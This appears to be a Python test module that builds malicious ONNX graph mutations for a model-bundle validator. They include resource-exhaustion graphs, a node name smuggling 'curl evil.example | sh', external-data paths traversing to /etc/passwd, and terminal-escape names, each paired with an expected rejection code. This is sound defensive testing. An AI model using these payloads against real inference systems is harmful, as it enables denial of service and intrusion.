"""Attacks through a graph: programs, names, and costs that no file size shows."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import numpy as np
import onnx
import sealing
from onnx import TensorProto, helper
from sealing import change_graph, put_before_logits, put_constant, put_node

from edgevit.bundle.protobuf import varint

Attack = Callable[[Path], None]
LONG = 1 << 62


def _on_model(change: Callable[[onnx.ModelProto], object]) -> Attack:
    return lambda folder: change_graph(folder, change)


def _loop(model: onnx.ModelProto) -> None:
    """Add a loop of 2^62 rounds, which nothing but a kill ends."""

    def float_info(name: str) -> onnx.ValueInfoProto:
        return helper.make_tensor_value_info(name, TensorProto.FLOAT, None)

    def flag_info(name: str) -> onnx.ValueInfoProto:
        return helper.make_tensor_value_info(name, TensorProto.BOOL, [])

    body = helper.make_graph(
        [
            helper.make_node("Identity", ["go"], ["go_on"]),
            helper.make_node("Neg", ["x"], ["turned"]),
        ],
        "body",
        [
            helper.make_tensor_value_info("i", TensorProto.INT64, []),
            flag_info("go"),
            float_info("x"),
        ],
        [flag_info("go_on"), float_info("turned")],
    )
    put_constant(model, "rounds", np.int64(LONG))
    put_constant(model, "true", np.bool_(True))
    inputs = ["rounds", "true", "before"]
    put_before_logits(model, helper.make_node("Loop", inputs, ["after"], body=body))


def _branch(model: onnx.ModelProto) -> None:
    branch = helper.make_graph([], "branch", [], [])
    put_node(model, "If", ["image"], "y", then_branch=branch, else_branch=branch)


def _filled(op: str) -> Callable[[onnx.ModelProto], None]:
    """Fill memory with 2^31 numbers."""

    def change(model: onnx.ModelProto) -> None:
        put_constant(model, "huge", np.array([1 << 31], np.int64))
        inputs = ["huge"] if op == "ConstantOfShape" else ["single", "huge"]
        put_constant(model, "single", np.zeros(1, np.float32))
        put_constant(model, "axis0", np.array([0], np.int64))
        put_before_logits(
            model,
            helper.make_node(op, inputs, ["filled"]),
            helper.make_node("ReduceMean", ["filled", "axis0"], ["mean"]),
            helper.make_node("Add", ["before", "mean"], ["after"]),
        )

    return change


def _function(model: onnx.ModelProto) -> None:
    node = helper.make_node("Identity", ["x"], ["y"])
    opsets = [helper.make_opsetid("", 20)]
    model.functions.append(helper.make_function("", "Reshape", ["x"], ["y"], [node], opsets))


def _attribute(**attributes: object) -> Attack:
    def change(model: onnx.ModelProto) -> None:
        model.graph.node[0].attribute.extend(
            helper.make_attribute(name, value) for name, value in attributes.items()
        )

    return _on_model(change)


def _op(op: str, domain: str = "", **attributes: object) -> Attack:
    def change(model: onnx.ModelProto) -> None:
        model.graph.node.insert(
            0, helper.make_node(op, ["image"], ["mine"], domain=domain, **attributes)
        )

    return _on_model(change)


def _renamed(old: str, new: str) -> Attack:
    def change(model: onnx.ModelProto) -> None:
        for node in model.graph.node:
            node.input[:] = [new if name == old else name for name in node.input]
            node.output[:] = [new if name == old else name for name in node.output]

    return _on_model(change)


def _named_node(model: onnx.ModelProto) -> None:
    model.graph.node[0].name = "x\ncurl evil.example | sh\n"


def _opset(domain: str, version: int) -> Attack:
    def change(model: onnx.ModelProto) -> None:
        for one in model.opset_import:
            if one.domain == domain:
                one.version = version
                return
        model.opset_import.append(helper.make_opsetid(domain, version))

    return _on_model(change)


def _set(path: str, value: object) -> Attack:
    def change(model: onnx.ModelProto) -> None:
        *way, last = path.split(".")
        where = model
        for step in way:
            where = getattr(where, step)
        setattr(where, last, value)

    return _on_model(change)


def _metadata(model: onnx.ModelProto) -> None:
    config = '{"session_options": {"enable_profiling": 1}}'
    model.metadata_props.add(key="ort_config", value=config)


def _external(model: onnx.ModelProto) -> None:
    tensor = helper.make_tensor("outside", TensorProto.FLOAT, [1], bytes(4), raw=True)
    tensor.data_location = TensorProto.EXTERNAL
    tensor.external_data.add(key="location", value="../../etc/passwd")
    model.graph.initializer.append(tensor)


def _bytes(data: bytes) -> Attack:
    def attack(folder: Path) -> None:
        path = folder / "graph.onnx"
        path.write_bytes(path.read_bytes() + data)
        sealing.seal(folder, sealing.manifest_of(folder))

    return attack


def _nested(folder: Path) -> None:
    data = b""
    for _ in range(5000):  # GraphProto.node.attribute.g
        attribute = b"\x32" + varint(len(data)) + data
        node = b"\x2a" + varint(len(attribute)) + attribute
        data = b"\x0a" + varint(len(node)) + node
    (folder / "graph.onnx").write_bytes(b"\x3a" + varint(len(data)) + data)
    sealing.seal(folder, sealing.manifest_of(folder))


PROGRAMS: dict[str, tuple[Attack, str]] = {
    "loop of 2^62 rounds": (_on_model(_loop), "EV418"),
    "branch": (_on_model(_branch), "EV418"),
    "ConstantOfShape of 2^31": (_on_model(_filled("ConstantOfShape")), "EV418"),
    "Expand to 2^31": (_on_model(_filled("Expand")), "EV421"),
    "function in the place of an operator": (_on_model(_function), "EV418"),
    "subgraph of a plain operator": (
        _attribute(body=helper.make_graph([], "g", [], [])),
        "EV418",
    ),
    "tensor as an attribute": (
        _attribute(value=helper.make_tensor("t", 1, [1], [0.0])),
        "EV418",
    ),
    "text as an attribute": (_attribute(path="/etc/passwd"), "EV418"),
    "attribute of an operator that has none": (_attribute(allowzero=1), "EV418"),
    "engine's own binary": (
        _op("EPContext", "com.microsoft", ep_cache_context="../x.so"),
        "EV418",
    ),
    "operator of a library": (_op("Run", "evil.example"), "EV418"),
    "operator of another domain": (_op("Reshape", "com.microsoft"), "EV418"),
    "random numbers": (_op("RandomNormalLike"), "EV418"),
    "text operator": (_op("StringNormalizer"), "EV418"),
    "training": (_on_model(lambda model: model.training_info.add()), "EV418"),
    "engine configuration in the model": (_on_model(_metadata), "EV418"),
    "documentation": (_set("doc_string", "x" * 100), "EV418"),
    "sparse tensor": (_on_model(lambda model: model.graph.sparse_initializer.add()), "EV418"),
    "external data": (_on_model(_external), "EV430"),
    "newer operators": (_opset("", 21), "EV418"),
    "operators of machine learning": (_opset("ai.onnx.ml", 3), "EV418"),
    "newer format": (_set("ir_version", 12), "EV418"),
    "unknown field": (_bytes(varint(9999 << 3 | 2) + b"\x03abc"), "EV418"),
    "second graph": (_bytes(b"\x3a\x00"), "EV418"),
    "wire type of another field": (_bytes(b"\x38\x00"), "EV418"),
    "group": (_bytes(b"\x3b\x3c"), "EV409"),
    "number without end": (_bytes(b"\x08" + b"\xff" * 40), "EV409"),
    "nested without end": (_nested, "EV418"),
    "line break in a node's name": (_on_model(_named_node), "EV418"),
    "escape in a tensor's name": (_renamed("flat", "fl\x1b]0;mine\x07at"), "EV418"),
    "markup in a tensor's name": (_renamed("flat", "[/bold]"), "EV418"),
    "way out in a tensor's name": (_renamed("flat", "\\..\\..\\x"), "EV418"),
    "name that is not ASCII": (_renamed("flat", "flаt"), "EV418"),  # noqa: RUF001
    "name of 100,000 characters": (_renamed("flat", "x" * 100_000), "EV418"),
    "line break in the graph's name": (_set("graph.name", "a\nb"), "EV418"),
    "line break in the producer": (_set("producer_name", "a\nb"), "EV418"),
}


def _padded(model: onnx.ModelProto) -> None:
    put_constant(model, "pads", np.array([0, 0, 0, 0, 0, 0, 0, 1 << 30], np.int64))
    put_constant(model, "nothing", np.float32(0))
    put_node(model, "Pad", ["image", "pads", "nothing"], "padded")


def _doubled(model: onnx.ModelProto) -> None:
    """Join a tensor with itself 60 times."""
    name = "image"
    nodes = []
    for step in range(60):
        nodes.append(helper.make_node("Concat", [name, name], [f"double{step}"], axis=3))
        name = f"double{step}"
    for node in reversed(nodes):
        model.graph.node.insert(0, node)


def _outer(model: onnx.ModelProto) -> None:
    """Multiply a column by a row that broadcasting makes a matrix of a terabyte."""
    put_constant(model, "column", np.array([-1, 192, 1], np.int64))
    put_constant(model, "row", np.array([-1, 1, 192], np.int64))
    names = ["flat"]
    nodes = []
    for step in range(4):
        for kind in ("column", "row"):
            nodes.append(helper.make_node("Reshape", [names[-1], kind], [f"{kind}{step}"]))
        nodes.append(helper.make_node("Mul", [f"column{step}", f"row{step}"], [f"outer{step}"]))
        names.append(f"outer{step}")
    model.graph.node.extend(nodes)


def _alive(listed_last: bool) -> Callable[[onnx.ModelProto], None]:
    """Keep 40 tensors of 12 MB per image alive: as written, or only depth first."""

    def change(model: onnx.ModelProto) -> None:
        put_constant(model, "pads", np.array([0, 0, 0, 0, 0, 0, 0, 1 << 17], np.int64))
        put_constant(model, "zero_f", np.float32(0))
        put_constant(model, "last_axis", np.array([3], np.int64))
        put_constant(model, "rows_of_24", np.array([-1, 24], np.int64))
        put_constant(model, "axis1", np.array([1], np.int64))
        before, after = [], []
        total = "nothing"
        put_constant(model, "nothing", np.zeros((1, 3, 8, 1), np.float32))
        for step in range(40):
            wide = helper.make_node("Pad", ["image", "pads", "zero_f"], [f"wide{step}"])
            mean = helper.make_node("ReduceMean", [f"wide{step}", "last_axis"], [f"mean{step}"])
            join = helper.make_node("Add", [f"mean{step}", total], [f"total{step}"])
            total = f"total{step}"
            before += [wide] if listed_last else [wide, mean, join]
            after += [mean, join] if listed_last else []
        ends = [
            helper.make_node("Reshape", [total, "rows_of_24"], ["rows24"]),
            helper.make_node("ReduceMean", ["rows24", "axis1"], ["one"]),
            helper.make_node("Add", ["before", "one"], ["after"]),
        ]
        put_before_logits(model, *before, *after, *ends)

    return change


def _depth_first_only(model: onnx.ModelProto) -> None:
    """Write 40 wide tensors each right before its use, in an order that engines do not keep.

    What reads wide tensor k also reads the sum of all later ones: depth first, all are alive.
    """
    put_constant(model, "pads", np.array([0, 0, 0, 0, 0, 0, 0, 1 << 17], np.int64))
    put_constant(model, "zero_f", np.float32(0))
    put_constant(model, "last_axis", np.array([3], np.int64))
    put_constant(model, "rows_of_24", np.array([-1, 24], np.int64))
    put_constant(model, "axis1", np.array([1], np.int64))
    put_constant(model, "start", np.zeros((1, 3, 8, 1), np.float32))
    nodes, total = [], "start"
    for step in range(40):
        nodes.append(helper.make_node("Pad", ["image", "pads", "zero_f"], [f"wide{step}"]))
        nodes.append(helper.make_node("Add", [f"wide{step}", total], [f"sum{step}"]))
        nodes.append(helper.make_node("ReduceMean", [f"sum{step}", "last_axis"], [f"mean{step}"]))
        total = f"mean{step}"
    nodes += [
        helper.make_node("Reshape", [total, "rows_of_24"], ["rows24"]),
        helper.make_node("ReduceMean", ["rows24", "axis1"], ["one"]),
        helper.make_node("Add", ["before", "one"], ["after"]),
    ]
    put_before_logits(model, *nodes)


def _folded(model: onnx.ModelProto) -> None:
    """Let constants alone make many wide tensors, which an engine computes once and keeps."""
    put_constant(model, "pads", np.array([0, 1 << 25], np.int64))
    put_constant(model, "zero_f", np.float32(0))
    put_constant(model, "axis0", np.array([0], np.int64))
    nodes, total = [], "bias"
    for step in range(40):
        nodes.append(helper.make_node("Pad", ["bias", "pads", "zero_f"], [f"wide{step}"]))
        nodes.append(helper.make_node("ReduceMean", [f"wide{step}", "axis0"], [f"mean{step}"]))
        nodes.append(helper.make_node("Add", [f"mean{step}", total], [f"total{step}"]))
        total = f"total{step}"
    nodes.append(helper.make_node("Add", ["before", total], ["after"]))
    put_before_logits(model, *nodes)


def _work(model: onnx.ModelProto) -> None:
    """Multiply 3,000 pairs of small matrices that broadcasting repeats."""
    put_constant(model, "axis1", np.array([1], np.int64))
    put_constant(model, "bread", np.array([-1, 1, 2048], np.int64))
    put_constant(model, "pads", np.array([0, 0, 0, 2041], np.int64))
    put_constant(model, "zero_f", np.float32(0))
    put_constant(model, "shape_l", np.array([-1, 2048, 1], np.int64))
    nodes = [
        helper.make_node("Pad", ["before", "pads", "zero_f"], ["wide"]),  # [B, 2048]
        helper.make_node("Reshape", ["wide", "bread"], ["row"]),
        helper.make_node("Reshape", ["wide", "shape_l"], ["column"]),
        helper.make_node("MatMul", ["column", "row"], ["square0"]),
    ]
    for step in range(100):
        pair = [f"square{step}", f"square{step}"]
        nodes.append(helper.make_node("MatMul", pair, [f"square{step + 1}"]))
    put_constant(model, "axes12", np.array([1, 2], np.int64))
    nodes += [
        helper.make_node("ReduceMean", ["square100", "axes12"], ["kept"]),
        helper.make_node("Reshape", ["kept", "one_row"], ["one"]),
        helper.make_node("Add", ["before", "one"], ["after"]),
    ]
    put_constant(model, "one_row", np.array([-1, 1], np.int64))
    put_before_logits(model, *nodes)


def _window(model: onnx.ModelProto) -> None:
    """Convolve with windows whose copies take gigabytes."""
    put_constant(model, "pads", np.array([0, 0, 0, 0, 0, 0, 500, 500], np.int64))
    put_constant(model, "zero_f", np.float32(0))
    put_constant(model, "ones", np.ones((1, 3, 1, 1), np.float32))
    put_constant(model, "kernel_pads", np.array([0, 0, 0, 0, 0, 0, 250, 250], np.int64))
    put_constant(model, "axes", np.array([2, 3], np.int64))
    put_constant(model, "one_row", np.array([-1, 1], np.int64))
    put_before_logits(
        model,
        helper.make_node("Pad", ["image", "pads", "zero_f"], ["wide"]),
        helper.make_node("Pad", ["ones", "kernel_pads", "zero_f"], ["kernel"]),
        helper.make_node("Conv", ["wide", "kernel"], ["convolved"]),
        helper.make_node("ReduceMean", ["convolved", "axes"], ["mean"]),
        helper.make_node("Reshape", ["mean", "one_row"], ["one"]),
        helper.make_node("Add", ["before", "one"], ["after"]),
    )


def _computed_shape(model: onnx.ModelProto) -> None:
    model.graph.node.append(helper.make_node("Cast", ["bias"], ["numbers"], to=7))
    model.graph.node.append(helper.make_node("Reshape", ["flat", "numbers"], ["any"]))


def _across_images(model: onnx.ModelProto) -> None:
    """Compare all images with all: memory grows with their square."""
    model.graph.node.append(helper.make_node("Transpose", ["flat"], ["flat_t"], perm=[1, 0]))
    model.graph.node.append(helper.make_node("MatMul", ["flat", "flat_t"], ["pairs"]))


def _many_nodes(model: onnx.ModelProto) -> None:
    for step in range(20_000):
        model.graph.node.append(helper.make_node("Relu", ["flat"], [f"r{step}"]))


def _circle(model: onnx.ModelProto) -> None:
    put_node(model, "Add", ["b", "image"], "a")
    put_node(model, "Add", ["a", "image"], "b")


def _written_twice(model: onnx.ModelProto) -> None:
    put_node(model, "Relu", ["image"], "flat")


def _empty(model: onnx.ModelProto) -> None:
    for name in ("flat", "nothing"):
        put_constant(model, f"{name}_end", np.array([0], np.int64))
    put_constant(model, "first", np.array([1], np.int64))
    inputs = ["image", "flat_end", "nothing_end", "first", "first"]
    put_node(model, "Slice", inputs, "none")


def _scales(count: int) -> Callable[[onnx.ModelProto], None]:
    """Give a product fewer scales than it has columns, which an engine may read past."""

    def change(model: onnx.ModelProto) -> None:
        model.opset_import.append(helper.make_opsetid("com.microsoft", 1))
        put_constant(model, "one_scale", np.float32(1))
        put_constant(model, "few_scales", np.ones(count, np.float32))
        put_constant(model, "zero_u8", np.uint8(0))
        put_constant(model, "codes2", np.ones((7, 7), np.int8))
        inputs = ["left", "codes2", "one_scale", "few_scales", "zero_u8"]
        put_constant(model, "zero_s8", np.int8(0))
        put_before_logits(
            model,
            helper.make_node("QuantizeLinear", ["before", "one_scale", "zero_u8"], ["left"]),
            helper.make_node(
                "MatMulIntegerToFloat", [*inputs, "zero_s8"], ["after"], domain="com.microsoft"
            ),
        )

    return change


COSTS: dict[str, tuple[Attack, str]] = {
    "padding to 2^30": (_on_model(_padded), "EV421"),
    "doubled 60 times": (_on_model(_doubled), "EV419"),
    "matrix of a terabyte": (_on_model(_outer), "EV421"),
    "40 tensors alive": (_on_model(_alive(True)), "EV421"),
    "40 tensors alive, depth first only": (_on_model(_depth_first_only), "EV421"),
    "40 tensors of constants": (_on_model(_folded), "EV421"),
    "work of hours": (_on_model(_work), "EV422"),
    "windows of gigabytes": (_on_model(_window), "EV421"),
    "shape that is computed": (_on_model(_computed_shape), "EV419"),
    "square of the images": (_on_model(_across_images), "EV419"),
    "20,000 nodes": (_on_model(_many_nodes), "EV418"),
    "fewer scales than columns": (_on_model(_scales(3)), "EV419"),
    "more scales than columns": (_on_model(_scales(30)), "EV419"),
    "circle": (_on_model(_circle), "EV419"),
    "written twice": (_on_model(_written_twice), "EV419"),
    "tensor without elements": (_on_model(_empty), "EV419"),
    "30 MB of empty nodes": (
        _bytes(b"\x3a" + varint(30 << 20) + b"\x0a\x00" * (15 << 20)),
        "EV418",
    ),
}
